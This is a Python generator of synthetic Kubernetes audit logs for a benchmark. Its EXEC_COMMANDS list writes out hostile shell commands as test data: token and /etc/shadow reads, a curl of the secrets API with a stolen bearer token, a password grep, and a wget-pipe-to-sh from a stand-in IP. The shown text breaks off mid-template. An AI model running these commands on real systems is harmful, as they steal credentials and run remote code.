#!/usr/bin/env python3
"""Deterministic generator of synthetic Kubernetes API-server audit logs (audit.k8s.io/v1 JSONL).

Usage:
    python benchmarks/gen_audit.py N OUT.jsonl [--seed 42] [--stats] [--meta]
    python benchmarks/gen_audit.py N OUT [--shape paired|unmatched|watch|large|eks-pages|small-files]
                                         [--unmatched 0.11] [--files 10000]

Shapes (the benchmark suite's shape matrix, ``benchmarks/shapes.py``): ``paired`` is the file
described below; ``unmatched`` adds early stages of watches whose ResponseComplete a
time-window export cut off (``--unmatched``: their share of the lines); ``watch`` makes ~75 % of
requests watches with RequestReceived, ResponseStarted and a ResponseComplete 5-10 minutes of
log later; ``large`` makes every request a RequestResponse pod create with ~10 KB (median)
objects; ``eks-pages`` writes the paired events as CloudWatch Logs ``filter-log-events`` pages
(JSON, the Event as a string in ``message``, 1 MB per page, concatenated); ``small-files``
spreads the paired events over ``--files`` files in a folder. See ``audit_lines`` and
``generate``.

Writes exactly N lines, one ``Event`` per line, shaped like a kube-apiserver log backend:

* levels: Metadata ~65 %, Request ~30 %, RequestResponse ~5 % of lines
  (~1.05 / ~1.6 / ~5.7 KB per line, ~1.4 KB on average);
* ~8 % of lines are ``RequestReceived``-stage events (no responseStatus, annotations or bodies)
  whose auditID is shared with a ``ResponseComplete`` event written a few lines later, so a
  loader that deduplicates on auditID keeps N minus those lines;
* ~32 % of lines carry a ``requestObject`` of many shapes: Lease, Pod status and Deployment
  strategic-merge patches, Scale, DeleteOptions, TokenReview (with ``spec.token``),
  SubjectAccessReview, TokenRequest, Event, ConfigMap, Secret (with ``data``), and JSON-patch
  **arrays** (~1 % of lines); RequestResponse lines are pod creates with the full request and
  response Pod (response with managedFields);
* pods/exec requests with ``?command=sh&command=-c&command=...`` (``&`` escaped as ``\\u0026``
  like Go's encoder does), Secret get/create/list, 403 Forbidden, non-resource URLs;
* users: kubelets (``system:node:*``), controllers, pod-bound service accounts with
  ``user.extra`` authentication.kubernetes.io/{pod-name,pod-uid,node-name,node-uid,credential-id},
  ``kubernetes-admin`` (sometimes impersonating), OIDC humans, ``system:anonymous``;
* timestamps RFC3339 with microseconds and ``Z``, spread over ~44 hours from
  2026-03-14T06:30Z, i.e. three UTC dates whatever N is.

How it stays fast: a few hundred event templates are built once with ``json.dumps`` and turned
into ``%``-format strings; each line only fills in auditID, timestamps, a uid, a name suffix and
a resourceVersion. Lines are streamed in blocks, nothing is held per event. The same seed and N
always give a byte-identical file (1M lines: ~1.44 GB in ~10 s on a 2-vCPU box).

``--stats`` re-reads the written file, checks that every line is valid JSON and prints the mix.
``--meta`` also writes ``OUT.meta.json`` (lines, bytes, unique auditIDs, dates) for the harness.
"""

from __future__ import annotations

import argparse
import datetime as dt
import heapq
import json
import os
import random
import re
import shutil
import sys
import time

START = dt.datetime(2026, 3, 14, 6, 30, tzinfo=dt.UTC)
SPAN_US = 44 * 3600 * 1_000_000  # 44 h -> dates 2026-03-14, -15, -16
RR_PAIR_P = 0.087  # p/(1+p) ~= 8 % of lines are RequestReceived
LEVEL_WEIGHTS = {"Metadata": 0.65, "Request": 0.30, "RequestResponse": 0.05}
K8S_VERSION = "v1.30.4"
K8S_COMMIT = "a51b3b711150f57ffc1f526a640ec058514f2596"
NAME_ALPHABET = "bcdfghjklmnpqrstvwxz2456789"

PH_RE = re.compile(r"@@(AID|RTS|STS|UID|SFX|RV)@@")
PH_INDEX = {"AID": 0, "RTS": 1, "STS": 2, "UID": 3, "SFX": 4, "RV": 5}


# --------------------------------------------------------------------------------------------
# The synthetic cluster
# --------------------------------------------------------------------------------------------
class Cluster:
    """A small fixed world (namespaces, nodes, workloads, identities) drawn from the seed."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.nodes = [f"k8s-worker-{i:02d}" for i in range(1, 13)] + ["k8s-cp-01", "k8s-cp-02", "k8s-cp-03"]
        self.node_ip = {n: f"10.0.{1 + i // 200}.{10 + i % 200}" for i, n in enumerate(self.nodes)}
        self.node_uid = {n: self.uuid() for n in self.nodes}
        self.workers = self.nodes[:12]
        ws = [
            ("kube-system", "coredns", "coredns", "registry.k8s.io/coredns/coredns:v1.11.1"),
            ("kube-system", "metrics-server", "metrics-server", "registry.k8s.io/metrics-server/metrics-server:v0.7.1"),
            ("monitoring", "prometheus", "prometheus-k8s", "quay.io/prometheus/prometheus:v2.51.2"),
            (
                "monitoring",
                "kube-state-metrics",
                "kube-state-metrics",
                "registry.k8s.io/kube-state-metrics/kube-state-metrics:v2.12.0",
            ),
            (
                "ingress-nginx",
                "ingress-nginx-controller",
                "ingress-nginx",
                "registry.k8s.io/ingress-nginx/controller:v1.10.1",
            ),
            (
                "argocd",
                "argocd-application-controller",
                "argocd-application-controller",
                "quay.io/argoproj/argocd:v2.10.9",
            ),
            ("cert-manager", "cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller:v1.14.5"),
            ("payments", "payments-api", "payments-api", "ghcr.io/example/payments-api:3.4.1"),
            ("payments", "ledger", "ledger", "ghcr.io/example/ledger:1.9.0"),
            ("web", "frontend", "default", "ghcr.io/example/frontend:2024.11.2"),
            ("web", "checkout", "checkout", "ghcr.io/example/checkout:5.2.0"),
            ("data", "etl-runner", "etl", "ghcr.io/example/etl-runner:0.18.3"),
            ("ci", "gitlab-runner", "gitlab-runner", "registry.gitlab.com/gitlab-org/gitlab-runner:v16.11.0"),
            ("logging", "fluent-bit", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.0.4"),
        ]
        self.workloads = []
        for ns, name, sa, image in ws:
            rs_hash = self.name(10)
            pods = []
            for _ in range(rng.randint(2, 5)):
                node = rng.choice(self.workers)
                pods.append(
                    {
                        "name": f"{name}-{rs_hash}-{self.name(5)}",
                        "uid": self.uuid(),
                        "node": node,
                        "ip": f"10.244.{self.workers.index(node)}.{rng.randint(2, 250)}",
                    }
                )
            self.workloads.append({"ns": ns, "name": name, "sa": sa, "image": image, "rs_hash": rs_hash, "pods": pods})
        self.namespaces = sorted({w["ns"] for w in self.workloads} | {"default", "kube-node-lease", "kube-public"})
        self.controllers = [
            "replicaset-controller",
            "deployment-controller",
            "endpointslice-controller",
            "namespace-controller",
            "generic-garbage-collector",
            "job-controller",
            "statefulset-controller",
            "daemon-set-controller",
            "node-controller",
            "horizontal-pod-autoscaler",
            "resourcequota-controller",
        ]
        self.humans = ["alice@example.com", "bob@example.com", "oncall@example.com"]
        self.external_ips = ["203.0.113.17", "203.0.113.45", "198.51.100.23", "192.0.2.77"]

    def uuid(self) -> str:
        h = "%032x" % self.rng.getrandbits(128)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

    def name(self, n: int) -> str:
        return "".join(self.rng.choice(NAME_ALPHABET) for _ in range(n))

    # ---- identities: (user dict, sourceIPs, userAgent) ----
    def kubelet(self, node: str | None = None):
        node = node or self.rng.choice(self.nodes)
        user = {"username": f"system:node:{node}", "groups": ["system:nodes", "system:authenticated"]}
        ua = f"kubelet/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT[:7]}"
        return user, [self.node_ip[node]], ua

    def controller(self, name: str | None = None):
        name = name or self.rng.choice(self.controllers)
        user = {
            "username": f"system:serviceaccount:kube-system:{name}",
            "uid": self.uuid(),
            "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
        }
        ua = (
            f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT[:7]}"
            f"/system:serviceaccount:kube-system:{name}"
        )
        return user, [self.node_ip[self.rng.choice(self.nodes[12:])]], ua

    def component(self, who: str):
        user = {"username": f"system:{who}", "groups": ["system:authenticated"]}
        ua = f"{who}/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT[:7]}/leader-election"
        return user, [self.node_ip[self.rng.choice(self.nodes[12:])]], ua

    def pod_sa(self, w: dict | None = None, pod: dict | None = None):
        w = w or self.rng.choice(self.workloads)
        pod = pod or self.rng.choice(w["pods"])
        user = {
            "username": f"system:serviceaccount:{w['ns']}:{w['sa']}",
            "uid": self.uuid(),
            "groups": ["system:serviceaccounts", f"system:serviceaccounts:{w['ns']}", "system:authenticated"],
            "extra": {
                "authentication.kubernetes.io/credential-id": [f"JTI={self.uuid()}"],
                "authentication.kubernetes.io/node-name": [pod["node"]],
                "authentication.kubernetes.io/node-uid": [self.node_uid[pod["node"]]],
                "authentication.kubernetes.io/pod-name": [pod["name"]],
                "authentication.kubernetes.io/pod-uid": [pod["uid"]],
            },
        }
        ua = self.rng.choice(
            [
                f"{w['name']}/v0.0.0 (linux/amd64) kubernetes/$Format",
                "Go-http-client/2.0",
                f"{w['name']}/{w['image'].rsplit(':', 1)[1]}",
            ]
        )
        return user, [pod["ip"]], ua

    def admin(self):
        user = {"username": "kubernetes-admin", "groups": ["kubeadm:cluster-admins", "system:authenticated"]}
        src = [self.rng.choice(self.external_ips)]
        if self.rng.random() < 0.5:
            src.append("10.0.0.5")  # via the load balancer
        ua = f"kubectl/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT[:7]}"
        return user, src, ua

    def human(self):
        who = self.rng.choice(self.humans)
        user = {
            "username": f"oidc:{who}",
            "groups": ["oidc:sre", "system:authenticated"],
            "extra": {"authentication.kubernetes.io/credential-id": [f"X509SHA256={self.name(40)}"]},
        }
        ua = f"kubectl/{K8S_VERSION} (darwin/arm64) kubernetes/{K8S_COMMIT[:7]}"
        return user, [self.rng.choice(self.external_ips), "10.0.0.5"], ua


def rbac_reason(user: dict, role: str) -> str:
    kind = (
        "ServiceAccount"
        if user["username"].startswith("system:serviceaccount:")
        else ("Group" if user["username"].startswith("system:node:") else "User")
    )
    return (
        f'RBAC: allowed by ClusterRoleBinding "{role}" of ClusterRole "{role}" '
        f'to {kind} "{user["username"].rsplit(":", 1)[-1]}"'
    )


def annotations(user: dict, role: str, decision: str = "allow", extra: dict | None = None) -> dict:
    reason = "" if decision != "allow" else rbac_reason(user, role)
    a = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
    if extra:
        a.update(extra)
    return a


def latency_ann(rng: random.Random) -> dict:
    return {
        "apiserver.latency.k8s.io/etcd": f"{rng.uniform(0.5, 9):.6f}ms",
        "apiserver.latency.k8s.io/total": f"{rng.uniform(2, 40):.6f}ms",
    }


def object_ref(resource, namespace=None, name=None, api_group=None, api_version="v1", subresource=None):
    ref = {"resource": resource}
    if namespace:
        ref["namespace"] = namespace
    if name:
        ref["name"] = name
    if api_group:
        ref["apiGroup"] = api_group
    ref["apiVersion"] = api_version
    if subresource:
        ref["subresource"] = subresource
    return ref


def ok(code: int = 200) -> dict:
    return {"metadata": {}, "code": code}


# --------------------------------------------------------------------------------------------
# Template families. Each returns (event dict with @@placeholders@@, latency range in µs).
# --------------------------------------------------------------------------------------------
def t_kubelet_read(c: Cluster):
    r = c.rng
    node = r.choice(c.workers)
    user, src, ua = c.kubelet(node)
    w = r.choice(c.workloads)
    kind = r.choice(["pods", "configmaps", "secrets", "services", "nodes", "csinodes", "runtimeclasses"])
    if kind == "pods":
        verb, uri = (
            "watch",
            f"/api/v1/pods?allowWatchBookmarks=true&fieldSelector=spec.nodeName%3D{node}&resourceVersion=@@RV@@&timeout=7m3s&timeoutSeconds=423&watch=true",
        )
        ref = object_ref("pods")
    elif kind == "nodes":
        verb, uri = "get", f"/api/v1/nodes/{node}?resourceVersion=0&timeout=10s"
        ref = object_ref("nodes", name=node)
    elif kind == "csinodes":
        verb, uri = "get", f"/apis/storage.k8s.io/v1/csinodes/{node}"
        ref = object_ref("csinodes", name=node, api_group="storage.k8s.io")
    elif kind == "runtimeclasses":
        verb, uri = "list", "/apis/node.k8s.io/v1/runtimeclasses?limit=500&resourceVersion=0"
        ref = object_ref("runtimeclasses", api_group="node.k8s.io")
    else:
        name = f"{w['name']}-{'config' if kind == 'configmaps' else 'token' if kind == 'secrets' else 'svc'}"
        verb = r.choice(["get", "watch", "list"])
        if verb == "get":
            uri = f"/api/v1/namespaces/{w['ns']}/{kind}/{name}"
        else:
            uri = (
                (
                    f"/api/v1/namespaces/{w['ns']}/{kind}?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{name}"
                    f"&resourceVersion=@@RV@@&timeout=5m41s&timeoutSeconds=341&watch=true"
                )
                if verb == "watch"
                else f"/api/v1/namespaces/{w['ns']}/{kind}?fieldSelector=metadata.name%3D{name}&limit=500&resourceVersion=0"
            )
        ref = object_ref(kind, w["ns"], name if verb == "get" else None)
    ev = {
        "level": "Metadata",
        "requestURI": uri,
        "verb": verb,
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": ref,
        "responseStatus": ok(),
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }
    return ev, (300, 6000)


def t_controller_read(c: Cluster):
    r = c.rng
    user, src, ua = c.controller()
    res, group, ver = r.choice(
        [
            ("pods", "", "v1"),
            ("replicasets", "apps", "v1"),
            ("deployments", "apps", "v1"),
            ("endpointslices", "discovery.k8s.io", "v1"),
            ("jobs", "batch", "v1"),
            ("services", "", "v1"),
            ("nodes", "", "v1"),
            ("namespaces", "", "v1"),
            ("horizontalpodautoscalers", "autoscaling", "v2"),
            ("resourcequotas", "", "v1"),
        ]
    )
    base = f"/api/{ver}" if not group else f"/apis/{group}/{ver}"
    verb = r.choice(["list", "watch", "watch", "get"])
    ns = r.choice(c.namespaces) if res not in ("nodes", "namespaces") else None
    if verb == "get":
        name = (
            r.choice(c.workers)
            if res == "nodes"
            else (ns or "default")
            if res == "namespaces"
            else f"{r.choice(c.workloads)['name']}-{c.name(10)}"
        )
        uri = f"{base}/{'namespaces/' + ns + '/' if ns else ''}{res}/{name}"
        ref = object_ref(res, ns, name, group or None, ver)
    elif verb == "watch":
        uri = (
            f"{base}/{res}?allowWatchBookmarks=true&resourceVersion=@@RV@@&timeout=8m30s&timeoutSeconds=510&watch=true"
        )
        ref = object_ref(res, None, None, group or None, ver)
    else:
        uri = f"{base}/{'namespaces/' + ns + '/' if ns else ''}{res}?limit=500&resourceVersion=0"
        ref = object_ref(res, ns, None, group or None, ver)
    ev = {
        "level": "Metadata",
        "requestURI": uri,
        "verb": verb,
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": ref,
        "responseStatus": ok(),
        "annotations": annotations(user, f"system:controller:{user['username'].rsplit(':', 1)[1]}"),
    }
    return ev, (200, 4000)


def t_pod_sa_read(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    user, src, ua = c.pod_sa(w)
    res = r.choice(["configmaps", "endpoints", "pods", "services", "leases", "secrets", "nodes"])
    if res == "leases":
        name = f"{w['name']}-leader"
        uri = f"/apis/coordination.k8s.io/v1/namespaces/{w['ns']}/leases/{name}"
        ref, verb = object_ref("leases", w["ns"], name, "coordination.k8s.io"), "get"
    elif res == "nodes":
        uri, ref, verb = "/api/v1/nodes?limit=500&resourceVersion=0", object_ref("nodes"), "list"
    elif r.random() < 0.5:
        name = f"{w['name']}-{r.choice(['config', 'tls', 'env', 'ca'])}"
        uri = f"/api/v1/namespaces/{w['ns']}/{res}/{name}"
        ref, verb = object_ref(res, w["ns"], name), "get"
    else:
        uri = f"/api/v1/namespaces/{w['ns']}/{res}?labelSelector=app.kubernetes.io%2Fname%3D{w['name']}&limit=500"
        ref, verb = object_ref(res, w["ns"]), "list"
    ev = {
        "level": "Metadata",
        "requestURI": uri,
        "verb": verb,
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": ref,
        "responseStatus": ok(),
        "annotations": annotations(user, f"{w['name']}-reader"),
    }
    return ev, (300, 5000)


def t_forbidden(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    user, src, ua = (
        c.pod_sa(w)
        if r.random() < 0.7
        else (
            {"username": "system:anonymous", "groups": ["system:unauthenticated"]},
            [r.choice(c.external_ips)],
            "python-requests/2.31.0",
        )
    )
    res = r.choice(["secrets", "clusterrolebindings", "pods", "nodes"])
    group = "rbac.authorization.k8s.io" if res == "clusterrolebindings" else None
    base = "/apis/rbac.authorization.k8s.io/v1" if group else "/api/v1"
    who = user["username"]
    msg = (
        f'{res} is forbidden: User "{who}" cannot list resource "{res}" in API group "{group or ""}" '
        f"at the cluster scope"
    )
    ev = {
        "level": "Metadata",
        "requestURI": f"{base}/{res}?limit=500",
        "verb": "list",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref(res, api_group=group),
        "responseStatus": {
            "metadata": {},
            "status": "Failure",
            "message": msg,
            "reason": "Forbidden",
            "details": {"kind": res},
            "code": 403,
        },
        "annotations": annotations(user, "", "forbid"),
    }
    return ev, (200, 2000)


def t_nonresource(c: Cluster):
    r = c.rng
    path = r.choice(
        ["/healthz", "/readyz", "/livez", "/version", "/apis", "/api", "/openapi/v2", "/readyz?verbose", "/metrics"]
    )
    if r.random() < 0.6:
        user = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
        src, ua = [c.node_ip[r.choice(c.nodes)]], f"kube-probe/{K8S_VERSION[1:5]}"
        role = "system:public-info-viewer"
    else:
        user, src, ua = c.pod_sa(r.choice(c.workloads[:4]))
        role = "system:discovery"
    ev = {
        "level": "Metadata",
        "requestURI": path,
        "verb": "get",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "responseStatus": ok(),
        "annotations": annotations(user, role),
    }
    return ev, (100, 1500)


def t_admin_read(c: Cluster):
    r = c.rng
    user, src, ua = c.admin() if r.random() < 0.6 else c.human()
    w = r.choice(c.workloads)
    pod = r.choice(w["pods"])
    kind = r.choice(["get_pod", "list_pods", "logs", "get_secret", "list_secrets", "get_deploy", "events"])
    if kind == "get_pod":
        uri, verb, ref = (
            f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}",
            "get",
            object_ref("pods", w["ns"], pod["name"]),
        )
    elif kind == "list_pods":
        uri, verb, ref = f"/api/v1/namespaces/{w['ns']}/pods?limit=500", "list", object_ref("pods", w["ns"])
    elif kind == "logs":
        uri, verb = (
            f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/log?container={w['name']}&follow=true&tailLines=200",
            "get",
        )
        ref = object_ref("pods", w["ns"], pod["name"], subresource="log")
    elif kind == "get_secret":
        name = f"{w['name']}-{r.choice(['db-credentials', 'tls', 'api-key'])}"
        uri, verb, ref = f"/api/v1/namespaces/{w['ns']}/secrets/{name}", "get", object_ref("secrets", w["ns"], name)
    elif kind == "list_secrets":
        uri, verb, ref = "/api/v1/secrets?limit=500", "list", object_ref("secrets")
    elif kind == "get_deploy":
        uri, verb = f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}", "get"
        ref = object_ref("deployments", w["ns"], w["name"], "apps")
    else:
        uri, verb = f"/api/v1/namespaces/{w['ns']}/events?fieldSelector=involvedObject.name%3D{pod['name']}", "list"
        ref = object_ref("events", w["ns"])
    if r.random() < 0.1 and user["username"] == "kubernetes-admin":
        target = c.pod_sa(w)[0]
        ev_imp = {"username": target["username"], "groups": target["groups"][:2]}
    else:
        ev_imp = None
    ev = {"level": "Metadata", "requestURI": uri, "verb": verb, "user": user}
    if ev_imp:
        ev["impersonatedUser"] = ev_imp
    ev.update(
        {
            "sourceIPs": src,
            "userAgent": ua,
            "objectRef": ref,
            "responseStatus": ok(),
            "annotations": annotations(user, "cluster-admin"),
        }
    )
    return ev, (500, 15000)


EXEC_COMMANDS = [
    ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
    [
        "sh",
        "-c",
        'curl -sk https://kubernetes.default.svc/api/v1/secrets -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"',
    ],
    ["sh", "-c", "env | grep -i pass"],
    ["sh", "-c", "wget -qO- http://203.0.113.45/x.sh | sh"],
    ["/bin/bash"],
    ["ls", "-la", "/"],
    ["sh", "-c", "cat /etc/shadow && id"],
    ["psql", "-U", "postgres", "-c", "select 1"],
]


def t_exec(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    pod = r.choice(w["pods"])
    user, src, ua = c.admin() if r.random() < 0.7 else c.human()
    cmd = r.choice(EXEC_COMMANDS)
    from urllib.parse import quote

    q = "&".join(f"command={quote(part, safe='')}" for part in cmd)
    sub = r.choice(["exec", "exec", "exec", "attach"])
    if sub == "exec":
        uri = f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/exec?{q}&container={w['name']}&stdin=true&stdout=true&tty=true"
    else:
        uri = f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/attach?container={w['name']}&stdin=true&stdout=true&tty=true"
    ev = {
        "level": "Metadata",
        "requestURI": uri,
        "verb": "create" if r.random() < 0.8 else "get",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("pods", w["ns"], pod["name"], subresource=sub),
        "responseStatus": ok(101),
        "annotations": annotations(user, "cluster-admin"),
    }
    return ev, (2_000_000, 90_000_000)


# ---------------------------- Request level ----------------------------
def t_lease_update(c: Cluster):
    r = c.rng
    node = r.choice(c.nodes)
    if r.random() < 0.75:
        user, src, ua = c.kubelet(node)
        ns, name, holder, dur = "kube-node-lease", node, node, 40
    else:
        comp = r.choice(["kube-scheduler", "kube-controller-manager"])
        user, src, ua = c.component(comp)
        ns, name, holder, dur = "kube-system", comp, f"{r.choice(c.nodes[12:])}_{c.uuid()}", 15
    lease = {
        "kind": "Lease",
        "apiVersion": "coordination.k8s.io/v1",
        "metadata": {
            "name": name,
            "namespace": ns,
            "uid": c.uuid(),
            "resourceVersion": "@@RV@@",
            "creationTimestamp": "2026-02-02T11:04:13Z",
            "ownerReferences": [{"apiVersion": "v1", "kind": "Node", "name": node, "uid": c.node_uid[node]}]
            if ns == "kube-node-lease"
            else None,
        },
        "spec": {
            "holderIdentity": holder,
            "leaseDurationSeconds": dur,
            "acquireTime": "2026-03-10T08:15:12.412233Z",
            "renewTime": "@@STS@@",
            "leaseTransitions": r.randint(0, 9),
        },
    }
    if lease["metadata"]["ownerReferences"] is None:
        del lease["metadata"]["ownerReferences"]
    ev = {
        "level": "Request",
        "requestURI": f"/apis/coordination.k8s.io/v1/namespaces/{ns}/leases/{name}?timeout=10s",
        "verb": "update",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("leases", ns, name, "coordination.k8s.io"),
        "responseStatus": ok(),
        "requestObject": lease,
        "annotations": annotations(user, f"system:{name}")
        if ns == "kube-system"
        else {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }  # node authorizer
    return ev, (1000, 9000)


def t_pod_status_patch(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    pod = r.choice(w["pods"])
    user, src, ua = c.kubelet(pod["node"])
    ready = r.choice(["True", "False"])
    patch = {
        "metadata": {"uid": pod["uid"]},
        "status": {
            "$setElementOrder/conditions": [
                {"type": t}
                for t in ("PodReadyToStartContainers", "Initialized", "Ready", "ContainersReady", "PodScheduled")
            ],
            "conditions": [
                {"lastTransitionTime": "@@STS@@", "status": ready, "type": "Ready"},
                {"lastTransitionTime": "@@STS@@", "status": ready, "type": "ContainersReady"},
            ],
            "containerStatuses": [
                {
                    "containerID": f"containerd://{c.name(8)}@@UID@@",
                    "image": w["image"],
                    "imageID": f"{w['image'].split(':')[0]}@sha256:{'%064x' % r.getrandbits(256)}",
                    "lastState": {},
                    "name": w["name"],
                    "ready": ready == "True",
                    "restartCount": r.randint(0, 3),
                    "started": True,
                    "state": {"running": {"startedAt": "@@RTS@@"}},
                }
            ],
            "podIP": pod["ip"],
            "podIPs": [{"ip": pod["ip"]}],
        },
    }
    ev = {
        "level": "Request",
        "requestURI": f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/status",
        "verb": "patch",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("pods", w["ns"], pod["name"], subresource="status"),
        "responseStatus": ok(),
        "requestObject": patch,
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }
    return ev, (2000, 12000)


def t_deploy_patch(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    user, src, ua = c.admin() if r.random() < 0.5 else c.pod_sa(c.workloads[5])  # argocd
    if r.random() < 0.5:
        patch = {"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "@@RTS@@"}}}}}
    else:
        patch = {
            "metadata": {"labels": {"app.kubernetes.io/instance": w["name"], "argocd.argoproj.io/instance": w["name"]}},
            "spec": {
                "template": {
                    "spec": {
                        "$setElementOrder/containers": [{"name": w["name"]}],
                        "containers": [
                            {
                                "image": w["image"],
                                "name": w["name"],
                                "resources": {"limits": {"memory": f"{r.choice([256, 512, 1024])}Mi"}},
                            }
                        ],
                    }
                }
            },
        }
    ev = {
        "level": "Request",
        "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}?fieldManager=kubectl-rollout",
        "verb": "patch",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("deployments", w["ns"], w["name"], "apps"),
        "responseStatus": ok(),
        "requestObject": patch,
        "annotations": annotations(user, "cluster-admin"),
    }
    return ev, (3000, 20000)


def t_json_patch(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    user, src, ua = c.admin() if r.random() < 0.5 else c.human()
    ops = [
        {"op": "replace", "path": "/spec/replicas", "value": r.randint(1, 6)},
        {"op": "add", "path": "/metadata/labels/release", "value": f"r{r.randint(100, 999)}"},
    ]
    if r.random() < 0.4:
        ops.append({"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": w["image"]})
    if r.random() < 0.2:
        ops = [
            {
                "op": "add",
                "path": "/spec/template/spec/containers/0/securityContext",
                "value": {"privileged": True, "runAsUser": 0},
            }
        ]
    ev = {
        "level": "Request",
        "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}",
        "verb": "patch",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("deployments", w["ns"], w["name"], "apps"),
        "responseStatus": ok(),
        "requestObject": ops,
        "annotations": annotations(user, "cluster-admin"),
    }
    return ev, (3000, 20000)


def t_scale(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    user, src, ua = c.controller("horizontal-pod-autoscaler") if r.random() < 0.7 else c.admin()
    n = r.randint(1, 12)
    scale = {
        "kind": "Scale",
        "apiVersion": "autoscaling/v1",
        "metadata": {
            "name": w["name"],
            "namespace": w["ns"],
            "uid": c.uuid(),
            "resourceVersion": "@@RV@@",
            "creationTimestamp": "2026-01-20T09:12:44Z",
        },
        "spec": {"replicas": n},
        "status": {"replicas": max(1, n - 1), "selector": f"app.kubernetes.io/name={w['name']}"},
    }
    ev = {
        "level": "Request",
        "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}/scale",
        "verb": "update",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("deployments", w["ns"], w["name"], "apps", subresource="scale"),
        "responseStatus": ok(),
        "requestObject": scale,
        "annotations": annotations(user, "system:controller:horizontal-pod-autoscaler"),
    }
    return ev, (2000, 15000)


def t_delete(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    pod = r.choice(w["pods"])
    user, src, ua = (
        c.controller(r.choice(["replicaset-controller", "generic-garbage-collector", "job-controller"]))
        if r.random() < 0.8
        else c.admin()
    )
    opts = {"kind": "DeleteOptions", "apiVersion": "v1"}
    if r.random() < 0.5:
        opts["propagationPolicy"] = r.choice(["Background", "Foreground"])
    if r.random() < 0.5:
        opts["gracePeriodSeconds"] = r.choice([0, 30])
        opts["preconditions"] = {"uid": pod["uid"]}
    ev = {
        "level": "Request",
        "requestURI": f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}-@@SFX@@",
        "verb": "delete",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("pods", w["ns"], f"{pod['name']}-@@SFX@@"),
        "responseStatus": ok(),
        "requestObject": opts,
        "annotations": annotations(user, "system:controller:replicaset-controller"),
    }
    return ev, (3000, 25000)


def fake_jwt(c: Cluster, sub: str) -> str:
    import base64

    hdr = base64.urlsafe_b64encode(json.dumps({"alg": "RS256", "kid": c.name(43)}).encode()).decode().rstrip("=")
    body = (
        base64.urlsafe_b64encode(
            json.dumps(
                {
                    "aud": ["https://kubernetes.default.svc.cluster.local"],
                    "exp": 1773600000,
                    "iat": 1773480000,
                    "iss": "https://kubernetes.default.svc.cluster.local",
                    "jti": c.uuid(),
                    "kubernetes.io": {
                        "namespace": sub.split(":")[2],
                        "serviceaccount": {"name": sub.split(":")[3], "uid": c.uuid()},
                        "node": {"name": c.rng.choice(c.workers), "uid": c.uuid()},
                    },
                    "nbf": 1773480000,
                    "sub": sub,
                }
            ).encode()
        )
        .decode()
        .rstrip("=")
    )
    return f"{hdr}.{body}.{c.name(342)}"


def t_tokenreview(c: Cluster):
    r = c.rng
    reviewer = r.choice(c.workloads[:4])
    user, src, ua = c.pod_sa(reviewer)
    client = r.choice(c.workloads)
    tr = {
        "kind": "TokenReview",
        "apiVersion": "authentication.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {
            "token": fake_jwt(c, f"system:serviceaccount:{client['ns']}:{client['sa']}"),
            "audiences": ["https://kubernetes.default.svc.cluster.local"],
        },
        "status": {"user": {}},
    }
    ev = {
        "level": "Request",
        "requestURI": "/apis/authentication.k8s.io/v1/tokenreviews",
        "verb": "create",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("tokenreviews", api_group="authentication.k8s.io"),
        "responseStatus": ok(201),
        "requestObject": tr,
